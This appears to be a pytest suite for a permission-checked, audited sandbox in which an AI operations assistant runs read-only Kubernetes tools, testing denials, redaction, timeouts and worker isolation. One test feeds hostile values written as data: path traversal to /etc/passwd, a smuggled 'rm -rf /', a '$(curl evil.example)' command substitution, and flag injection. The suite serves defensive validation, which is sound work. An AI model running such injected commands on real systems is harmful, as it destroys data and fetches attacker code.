"""The sandbox, adversarially: every call is checked against the caller before it runs, arguments are validated,
tools run in a worker process with a timeout and an output cap, and every call (denied ones too) is audited."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from assistant.audit import AuditLog
from assistant.auth import Principal
from assistant.database import Database
from assistant.tools import Sandbox, tools
from assistant.tools.workers import worker_environment
from core.settings import Settings
from ingest.cluster.config import ClusterConfig, Clusters
from tests.kube.apiserver import KubeApiServer
from tests.kube.fixtures import CLUSTERS

CRASHED = "checkout-7c9d8f6b5-x2k4p"
OPERATOR = Principal("op@northwind", "northwind", ("operator",))
DEVELOPER = Principal("dev@northwind", "northwind", ("developer",), ("shop",))
VIEWER = Principal("viewer@northwind", "northwind", ("viewer",))
ORBITAL = Principal("op@orbital", "orbital", ("operator",))


@pytest.fixture
def sandbox(tmp_path: Path, kubeconfig: Path) -> Iterator[Sandbox]:
    """northwind's cluster over the live API (the fixture server), orbital's from its dump."""
    clusters = Clusters(
        [
            ClusterConfig(
                org="northwind",
                name="northwind-prod",
                kubeconfig=kubeconfig,
                context="northwind-prod",
                namespaces=("shop", "payments", "platform"),
            ),
            ClusterConfig(org="orbital", name="orbital-prod", dump=CLUSTERS / "orbital-prod"),
        ]
    )
    settings = Settings(data_dir=tmp_path / "data", tool_timeout_s=3, tool_output_bytes=8192)
    db = Database(f"sqlite:///{tmp_path / 'audit.db'}")
    box = Sandbox(settings, clusters, AuditLog(db))
    yield box
    box.close()
    db.close()


def audited(box: Sandbox) -> list[dict[str, object]]:
    assert box.audit is not None
    return [r for r in box.audit.records() if r["action"] == "tool"]


def test_a_developer_reads_the_logs_of_a_pod_in_their_namespace(sandbox: Sandbox, kube: KubeApiServer) -> None:
    result = sandbox.call(DEVELOPER, "kubernetes_logs", {"namespace": "shop", "pod": CRASHED, "previous": True})
    assert result.status == "ok", result.error
    assert "PAYMENTS_GATEWAY_URL is not a valid URL" in result.data["log"]
    assert result.invocation == f"kubectl --context northwind-prod -n shop logs {CRASHED} --previous --tail=100"
    assert {r.method for r in kube.requests} == {"GET"}
    assert audited(sandbox)[-1]["outcome"] == "ok"


@pytest.mark.parametrize(
    ("who", "tool", "arguments", "reason"),
    [
        (VIEWER, "kubernetes_list", {"kind": "pod", "namespace": "shop"}, "may not run kubernetes tools"),
        (DEVELOPER, "kubernetes_list", {"kind": "pod", "namespace": "payments"}, "not one your key may read"),
        (DEVELOPER, "kubernetes_list", {"kind": "node"}, "only operators"),
        (OPERATOR, "kubernetes_list", {"kind": "pod", "namespace": "kube-system"}, "not open to the assistant"),
        (OPERATOR, "kubernetes_list", {"kind": "pod", "cluster": "orbital-prod"}, "not one of your organization"),
        (ORBITAL, "kubernetes_logs", {"namespace": "shop", "pod": CRASHED, "cluster": "northwind-prod"}, "not one of"),
    ],
)
def test_calls_beyond_the_callers_permissions_are_denied_and_audited(
    sandbox: Sandbox, kube: KubeApiServer, who: Principal, tool: str, arguments: dict[str, object], reason: str
) -> None:
    result = sandbox.call(who, tool, arguments)
    assert result.status == "denied" and reason in str(result.error)
    assert kube.requests == []  # refused before anything reached the cluster
    record = audited(sandbox)[-1]
    assert record["outcome"] == "denied" and record["user_id"] == who.user and record["org_id"] == who.org


def test_another_orgs_cluster_is_refused_like_one_that_does_not_exist(sandbox: Sandbox) -> None:
    theirs = sandbox.call(OPERATOR, "kubernetes_list", {"kind": "pod", "cluster": "orbital-prod"})
    nowhere = sandbox.call(OPERATOR, "kubernetes_list", {"kind": "pod", "cluster": "no-such-cluster"})
    assert theirs.error == nowhere.error.replace("no-such-cluster", "orbital-prod")  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "arguments",
    [
        {"namespace": "shop", "pod": "../../../etc/passwd"},
        {"namespace": "shop", "pod": f"{CRASHED}; rm -rf /"},
        {"namespace": "shop", "pod": "$(curl evil.example)"},
        {"namespace": "shop/../kube-system", "pod": CRASHED},
        {"namespace": "shop", "pod": CRASHED, "container": "checkout --all-containers"},
        {"namespace": "shop", "pod": "x" * 300},
        {"namespace": "shop", "pod": CRASHED, "tail": 10**9},
        {"namespace": "shop", "pod": CRASHED, "follow": True},
    ],
)
def test_bad_arguments_never_reach_the_cluster(
    sandbox: Sandbox, kube: KubeApiServer, arguments: dict[str, object]
) -> None:
    result = sandbox.call(OPERATOR, "kubernetes_logs", arguments)
    assert result.status == "error" and str(result.error).startswith("invalid arguments")
    assert kube.requests == []
    assert audited(sandbox)[-1]["outcome"] == "error"


@pytest.mark.parametrize("kind", ["secret", "secrets", "Secret", "serviceaccount", "clusterrolebindings", "pods/exec"])
def test_kinds_outside_the_allowlist_are_refused(sandbox: Sandbox, kube: KubeApiServer, kind: str) -> None:
    for tool, arguments in (
        ("kubernetes_list", {"kind": kind, "namespace": "shop"}),
        ("kubernetes_describe", {"kind": kind, "namespace": "shop", "name": "db-credentials"}),
    ):
        result = sandbox.call(OPERATOR, tool, arguments)
        assert result.status == "error" and "not readable here" in str(result.error)
    assert kube.requests == []


def test_a_label_selector_cannot_smuggle_set_syntax_or_fields(sandbox: Sandbox) -> None:
    for selector in ("app in (a,b)", "app=x&watch=true", "app=x,metadata.name!=y", "a=b;c"):
        result = sandbox.call(OPERATOR, "kubernetes_list", {"kind": "pod", "label_selector": selector})
        assert result.status == "error", selector


def test_credentials_in_objects_are_redacted_from_tool_output(sandbox: Sandbox) -> None:
    result = sandbox.call(OPERATOR, "kubernetes_describe", {"kind": "deployment", "namespace": "shop", "name": "cart"})
    assert result.status == "ok"
    assert "DATABASE_PASSWORD=[REDACTED]" in result.data["text"]
    raw = json.loads((CLUSTERS / "northwind-prod" / "shop" / "deployments.json").read_text())
    env = [e for d in raw["items"] for c in d["spec"]["template"]["spec"]["containers"] for e in c.get("env", [])]
    password = next(e["value"] for e in env if e["name"] == "DATABASE_PASSWORD")
    assert password not in json.dumps(result.data)


def test_a_huge_log_is_cut_to_the_output_cap(sandbox: Sandbox, kube: KubeApiServer) -> None:
    kube.huge_log_bytes = 5_000_000
    result = sandbox.call(OPERATOR, "kubernetes_logs", {"namespace": "shop", "pod": CRASHED, "tail": 5000})
    assert result.status == "ok" and result.truncated
    assert len(json.dumps(result.data).encode()) <= sandbox.settings.tool_output_bytes
    assert "characters cut" in result.data["log"]


def test_a_hanging_api_server_times_out_and_the_next_call_works(sandbox: Sandbox, kube: KubeApiServer) -> None:
    kube.delay_s = 30
    hung = sandbox.call(OPERATOR, "kubernetes_list", {"kind": "pod", "namespace": "shop"})
    assert hung.status in ("timeout", "error") and hung.duration_ms < 6000
    kube.delay_s = 0
    again = sandbox.call(OPERATOR, "kubernetes_list", {"kind": "pod", "namespace": "shop"})
    assert again.status == "ok" and again.data["total"] > 5
    assert [r["outcome"] for r in audited(sandbox)][-2:] == [hung.status, "ok"]


def test_an_api_server_error_is_a_readable_result(sandbox: Sandbox, kube: KubeApiServer) -> None:
    kube.fail_with = 500
    result = sandbox.call(OPERATOR, "kubernetes_events", {"namespace": "shop"})
    assert result.status == "error" and "500" in str(result.error)
    assert result.invocation.startswith("kubectl --context northwind-prod -n shop get events")


def test_tools_are_disabled_with_a_reason_where_no_cluster_is_configured(sandbox: Sandbox) -> None:
    lonely = Principal("op@globex", "globex", ("operator",))
    result = sandbox.call(lonely, "cluster_analyze", {})
    assert result.status == "disabled" and "no cluster configured for organization globex" in str(result.error)
    listed = {t["name"]: t for t in sandbox.catalog(lonely)}
    assert listed["kubernetes_logs"]["status"].startswith("disabled: no cluster configured")
    assert {t["status"] for t in sandbox.catalog(VIEWER)} == {
        "denied: your role may not run kubernetes tools",
        "denied: your role may not run troubleshooting tools",
    }


def test_every_tool_is_read_only_and_declares_a_schema() -> None:
    for tool in tools().values():
        assert tool.read_only and tool.schema()["type"] == "object" and tool.runner.startswith("assistant.tools.")


def test_the_worker_is_another_process_without_the_services_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AIOPS_OPENAI_API_KEY", "sk-test-should-not-leak")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-should-not-leak")
    env = worker_environment()
    assert not any(k.startswith(("AIOPS_", "OPENAI")) for k in env)
    probe = "import os, resource; print(os.getpid(), resource.getrlimit(resource.RLIMIT_FSIZE)[0])"
    code = f"from assistant.tools.worker import limit_resources; limit_resources(); {probe}"
    out = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True).stdout
    pid, fsize = map(int, out.split())
    assert pid != os.getpid() and 0 < fsize <= 4 * 1024 * 1024


def test_an_operator_analyzes_every_namespace_and_the_nodes(sandbox: Sandbox) -> None:
    result = sandbox.call(OPERATOR, "cluster_analyze", {})
    assert result.status == "ok"
    found = {(f["check"], f["name"]) for f in result.data["findings"]}
    assert ("NodeNotReady", "ip-10-20-3-41") in found and ("CrashLoopBackOff", CRASHED) in found
    mine = sandbox.call(DEVELOPER, "cluster_analyze", {})
    assert mine.status == "ok" and {f["namespace"] for f in mine.data["findings"]} == {"shop"}
